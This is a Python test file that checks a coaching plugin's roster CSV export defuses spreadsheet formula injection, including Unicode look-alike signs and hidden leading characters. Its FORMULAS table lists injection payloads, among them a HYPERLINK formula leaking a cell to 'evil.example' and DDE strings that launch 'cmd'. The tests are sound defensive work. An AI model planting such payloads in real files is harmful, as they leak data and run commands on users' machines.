"""The roster as CSV: read back as it was, and nothing in it that a spreadsheet would run."""

import csv
import io
import re
import sys
import unicodedata
from datetime import UTC, datetime
from uuid import UUID

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from coaching_plugin.partner import csv_format
from coaching_plugin.partner.roster import Entry, Standing

pytestmark = pytest.mark.once

PARTNER_ID = UUID("00000000-0000-4000-8000-000000000001")
E164 = re.compile(r"\+[1-9][0-9]{6,14}", re.ASCII)
# What Unicode has in place of the signs with which a formula begins, and what may stand unseen before them.
SIGNS = [
    character
    for character in map(chr, range(sys.maxunicode))
    if unicodedata.normalize("NFKC", character)[:1] in {*"=+-@", "\N{MINUS SIGN}"}
]
UNSEEN = ["", " ", "\t", "\r", "\n", "\0", "\x1b", "\xa0", "\u3000", "\u200b", "\u200f", "\ufeff", "\u2028", "\xad"]

text = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
hostile = st.builds(
    "".join, st.lists(st.one_of(st.sampled_from(SIGNS), st.sampled_from(UNSEEN), st.sampled_from(";,\"'|"), text))
)


def entry(**fields):
    known = {"sequence": 1, "status": Standing.CONSENTED} | fields
    return Entry(PARTNER_ID, **known)


def written(*entries):
    return "".join(csv_format.lines(one.as_json() for one in entries))


def read(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def undone(cell):
    """Return a cell as it was before it was defused."""
    return re.sub(r"(^|(?<=[;\t\r\n]))'", "", cell)


def test_the_columns_are_those_of_json_in_its_order():
    assert list(csv_format.COLUMNS) == list(entry().as_json())


def test_a_file_as_it_is_written():
    somebody = entry(
        full_name='Zwetschge, "Lena"',
        phone_number="+14155552671",
        email="lena@example.com",
        language="es-419",
        programs=("Data", "Statistics, applied"),
        consented_at=datetime(2026, 11, 27, 9, 30, tzinfo=UTC),
        disclosure_version=1,
    )
    gone = entry(sequence=7, status=Standing.ERASED)
    assert written(somebody, gone).encode() == (
        b"partner_id,sequence,status,full_name,phone_number,email,language,programs,consented_at,disclosure_version\r\n"
        b'00000000-0000-4000-8000-000000000001,1,consented,"Zwetschge, ""Lena""",+14155552671,lena@example.com,es-419,'
        b'"Data; Statistics, applied",2026-11-27T09:30:00+00:00,1\r\n'
        b"00000000-0000-4000-8000-000000000001,7,erased,,,,,,,\r\n"
    )


def test_an_empty_roster_is_a_header():
    assert written() == ",".join(csv_format.COLUMNS) + "\r\n"


FORMULAS = {
    '=HYPERLINK("http://evil.example/?" & A1)': '\'=HYPERLINK("http://evil.example/?" & A1)',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\tLena": "'\tLena",
    "   =1": "'   =1",
    "\u200b\ufeff=1": "'\u200b\ufeff=1",
    "\uff1d1": "'\uff1d1",
    "\u3000\uff0b1": "'\u3000\uff0b1",
    "\u22121": "'\u22121",
    "Lena;=1": "Lena;'=1",
    "Lena\n=1": "Lena\n'=1",
    "+1415555267x": "'+1415555267x",
    "+1 415 555 2671": "'+1 415 555 2671",
    "+0123456789": "'+0123456789",
    "+\u0661\u0662\u0663\u0664\u0665\u0666\u0667": "'+\u0661\u0662\u0663\u0664\u0665\u0666\u0667",
    "+14155552671\n": "'+14155552671\n",
}


@pytest.mark.parametrize(("typed", "cell"), FORMULAS.items(), ids=map(ascii, FORMULAS))
def test_what_a_spreadsheet_would_run_is_defused(typed, cell):
    assert csv_format.defused(typed) == cell
    assert read(written(entry(full_name=typed)))[0]["full_name"] == cell


@pytest.mark.parametrize("harmless", ["+14155552671", "Lena", "O'Neill", "Anne-Marie", "a@b", "1+1=2", "", "5-6", "'"])
def test_what_is_harmless_stays_as_it_is(harmless):
    assert csv_format.defused(harmless) == harmless


@pytest.mark.parametrize("sign", SIGNS, ids=ascii)
def test_every_form_of_a_sign_counts(sign):
    assert csv_format.defused(f"{sign}A1") == f"'{sign}A1"
    assert csv_format.defused(f"\ufeff {sign}A1") == f"'\ufeff {sign}A1"


def test_a_program_is_defused_too():
    cells = read(written(entry(programs=("=1", "Data; @SUM(1)", "Data"))))[0]["programs"]
    assert cells == "'=1; Data;' @SUM(1); Data"


def first_seen(cell):
    return next((character for character in cell if unicodedata.category(character)[0] not in "ZC"), "")


@given(full_name=hostile, email=hostile, programs=st.lists(hostile, max_size=3))
@example(full_name="\r", email="\n", programs=["", "\t"])
@example(full_name="'=1", email=";", programs=[";="])
def test_whatever_is_in_it_comes_back_and_is_never_run(full_name, email, programs):
    told = entry(full_name=full_name, phone_number="+14155552671", email=email, programs=tuple(programs))
    text = written(told)
    text.encode()
    (row,) = read(text)

    assert list(row) == list(csv_format.COLUMNS)
    assert row["phone_number"] == "+14155552671"
    for name, typed in [("full_name", full_name), ("email", email), ("programs", "; ".join(programs))]:
        assert undone(row[name]) == undone(typed)
    for cell in row.values():
        # Also where another separator than ours is gone by.
        for part in [cell, *re.split(r"[;\t\r\n]", cell)]:
            if not E164.fullmatch(cell):
                assert first_seen(part) not in SIGNS
        assert cell[:1] not in {"\t", "\r", "\n"}


@given(st.lists(st.builds(entry, full_name=text, sequence=st.integers(0, 2**31 - 1)), max_size=5))
def test_every_entry_is_one_row(entries):
    rows = read(written(*entries))
    assert [int(row["sequence"]) for row in rows] == [one.sequence for one in entries]
